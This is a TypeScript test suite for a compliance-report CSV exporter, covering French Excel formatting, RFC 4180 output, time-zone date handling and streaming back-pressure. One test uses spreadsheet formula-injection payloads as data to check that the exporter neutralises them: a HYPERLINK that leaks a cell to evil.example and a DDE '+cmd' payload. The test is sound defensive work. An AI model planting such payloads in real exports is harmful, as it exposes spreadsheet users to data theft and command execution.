import { PassThrough, Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { writeComplianceCsv } from '../../src/reports/csv';
import { minutesToHours } from '../../src/domain/format';
import { type ComplianceRow, type ReportMeta } from '../../src/reports/rows';
import { fromArray, generatedRows, socle28, streamRows, testMeta, must } from '../support/compliance-rows';

async function csvOf(rows: ComplianceRow[], variant: 'excel-fr' | 'rfc4180', onProgress?: (n: number) => void, meta: ReportMeta = testMeta()) {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const count = await writeComplianceCsv(meta, fromArray(rows), out, { variant, onProgress, progressEvery: 50 });
  return { count, bytes: Buffer.concat(chunks) };
}

const row = (overrides: Partial<ComplianceRow> = {}): ComplianceRow => ({ ...must(generatedRows(1)[0]), ...overrides });

describe('compliance CSV', () => {
  const rows = generatedRows(200);

  it('French Excel variant: BOM, semicolons, CRLF, decimal comma, French headers', async () => {
    const halfHour = row({
      domains: socle28.domains.map((d) => ({ ...d, validatedMinutes: d.code === 'D1' ? 750 : 0 })),
      validatedMinutes: 750,
      requiredMinutes: 1680,
      status: 'in_progress',
    });
    const { bytes } = await csvOf([halfHour], 'excel-fr');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    const lines = text.split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    expect(lines[0]).toMatch(/^Identifiant;Nom;Cours;Référentiel;Version;D1 validées \(h\);D1 requises \(h\);/);
    expect(lines[1]).toContain(';12,5;6;');
    expect(lines[1]).toContain(';12,5;28;En cours;;');
    expect(text).not.toMatch(/;\d+\.\d+;/);
  });

  it.each(['excel-fr', 'rfc4180'] as const)('%s: every number equals the input rows (hours to 2 decimals)', async (variant) => {
    const progress: number[] = [];
    const { count, bytes } = await csvOf(rows, variant, (n) => progress.push(n));
    expect(count).toBe(rows.length);
    expect(progress).toEqual([50, 100, 150, 200, 200]);
    const fr = variant === 'excel-fr';
    const records: string[][] = parse(bytes, { bom: true, delimiter: fr ? ';' : ',', record_delimiter: '\r\n' });
    const [header, ...data] = records;
    expect(data).toHaveLength(rows.length);
    const num = (s: string) => Number(fr ? s.replace(',', '.') : s);
    const col = (name: string) => must(header).indexOf(name);
    rows.forEach((r, i) => {
      const cells = must(data[i]);
      expect(cells[0]).toBe(r.learner.sub);
      expect(cells[1]).toBe(r.learner.name ?? '');
      expect(cells[3]).toBe(r.referential.id);
      for (const d of r.domains) {
        const v = fr ? `${d.code} validées (h)` : `${d.code}_validated_hours`;
        const q = fr ? `${d.code} requises (h)` : `${d.code}_required_hours`;
        expect(num(must(cells[col(v)]))).toBe(minutesToHours(d.validatedMinutes));
        expect(num(must(cells[col(q)]))).toBe(minutesToHours(d.requiredMinutes));
      }
      expect(num(must(cells[col(fr ? 'Total validé (h)' : 'total_validated_hours')]))).toBe(minutesToHours(r.validatedMinutes));
      expect(num(must(cells[col(fr ? 'Total requis (h)' : 'total_required_hours')]))).toBe(minutesToHours(r.requiredMinutes));
      const completed = cells[col(fr ? 'Date de complétion' : 'completed_at')];
      if (fr) expect(completed).toBe(r.completedAt ? r.completedAt.toLocaleDateString('fr-FR', { timeZone: 'Europe/Paris' }) : '');
      else expect(completed).toBe(r.completedAt?.toISOString() ?? '');
      if (!fr) {
        expect(cells[col('status')]).toBe(r.status);
        expect(cells[col('manual_credits')]).toBe(String(r.hasManualCredits));
      }
      // the forecast: codes and ISO dates for programs, French words and JJ/MM/AAAA for people
      const labels = { on_track: 'en bonne voie', behind: 'en retard', at_risk: 'à risque', done: 'terminé' };
      const [y, m, d] = (r.forecast?.dueDate ?? '--').split('-');
      expect(cells[col(fr ? 'Statut prévisionnel' : 'forecast_status')]).toBe(r.forecast ? (fr ? labels[r.forecast.status] : r.forecast.status) : '');
      expect(cells[col(fr ? 'Échéance' : 'due_date')]).toBe(r.forecast ? (fr ? `${d}/${m}/${y}` : r.forecast.dueDate) : '');
    });
  });

  it('French Excel variant: completion dates are JJ/MM/AAAA in the report\'s time zone (La Réunion here), real dates once parsed', async () => {
    // 21:30 UTC on 22 October is 01:30 on the 23rd in La Réunion (UTC+4), still the 22nd in Paris
    const late = row({ status: 'complete', completedAt: new Date('2026-10-22T21:30:00Z') });
    const early = row({ learner: { sub: '2', name: 'Inès' }, status: 'complete', completedAt: new Date('2026-01-05T03:00:00Z') });
    const parsed = async (timeZone?: string) => {
      const { bytes } = await csvOf([late, early], 'excel-fr', undefined, testMeta(timeZone ? { timeZone } : {}));
      const [header, ...data]: string[][] = parse(bytes, { bom: true, delimiter: ';' });
      const col = must(header).indexOf('Date de complétion');
      return data.map((cells) => must(cells[col]));
    };
    const reunion = await parsed('Indian/Reunion');
    expect(reunion).toEqual(['23/10/2026', '05/01/2026']);
    for (const [i, text] of reunion.entries()) {
      const [, dd, mm, yyyy] = must(/^(\d{2})\/(\d{2})\/(\d{4})$/.exec(text));
      const day = new Date(Date.UTC(Number(yyyy), Number(mm) - 1, Number(dd)));
      expect(day.getUTCDate()).toBe(Number(dd)); // a real calendar day, not a rolled-over one
      const instant = must([late, early][i]?.completedAt);
      // the day in La Réunion, computed from the UTC instant and the zone's fixed +4 h offset
      expect(day.toISOString().slice(0, 10)).toBe(new Date(instant.getTime() + 4 * 3600_000).toISOString().slice(0, 10));
    }
    expect(await parsed()).toEqual(['22/10/2026', '05/01/2026']); // no zone given: Europe/Paris
  });

  it('plain variant is RFC 4180: commas, CRLF, decimal point, no BOM', async () => {
    const { bytes } = await csvOf(rows.slice(0, 20), 'rfc4180');
    expect(bytes[0]).toBe('l'.charCodeAt(0));
    const text = bytes.toString('utf8');
    expect(text.split('\r\n')[0]).toMatch(/^learner_sub,learner_name,courses,referential_id,referential_version,D1_validated_hours,/);
    expect(text).not.toMatch(/[^\r]\n/);
    expect(text).toMatch(/,\d+\.\d+,/);
  });

  it.each(['excel-fr', 'rfc4180'] as const)('%s: neutralises formulas in learner names and course titles', async (variant) => {
    const evil = row({
      learner: { sub: '66', name: '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")' },
      courses: [{ contextId: '2', title: '+cmd|" /C calc"!A0' }, { contextId: '3', title: '@SUM(1+1)' }],
    });
    const { bytes } = await csvOf([evil], variant);
    const records: string[][] = parse(bytes, { bom: true, delimiter: variant === 'excel-fr' ? ';' : ',' });
    const cells = must(records[1]);
    expect(cells[1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")`);
    expect(cells[2]).toBe(`'+cmd|" /C calc"!A0 | @SUM(1+1)`);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('rejects a row of a référentiel the report does not declare', async () => {
    const stray = row({ referential: { id: 'other', version: 'V9' } });
    await expect(csvOf([stray], 'excel-fr')).rejects.toMatchObject({ code: 'internal_error' });
    await expect(csvOf([stray], 'excel-fr')).rejects.toThrow(/learner 1000 refers to référentiel other@V9/);
  });

  it('pulls rows only as fast as the output accepts them (bounded memory)', async () => {
    let pulled = 0;
    async function* counted() {
      for await (const r of streamRows(100_000)) {
        pulled++;
        yield r;
      }
    }
    let release: () => void = () => undefined;
    let accepted = 0;
    const stuck = new Writable({
      highWaterMark: 16 * 1024,
      write(chunk: Buffer, _e, cb) {
        accepted += chunk.length;
        if (accepted > 64 * 1024) release = () => cb();
        else cb();
      },
    });
    const done = writeComplianceCsv(testMeta(), counted(), stuck, { variant: 'excel-fr' });
    await new Promise((r) => setTimeout(r, 300));
    expect(pulled).toBeGreaterThan(0);
    expect(pulled).toBeLessThan(2_000);
    stuck.destroy();
    release();
    await done.catch(() => undefined);
  });
});
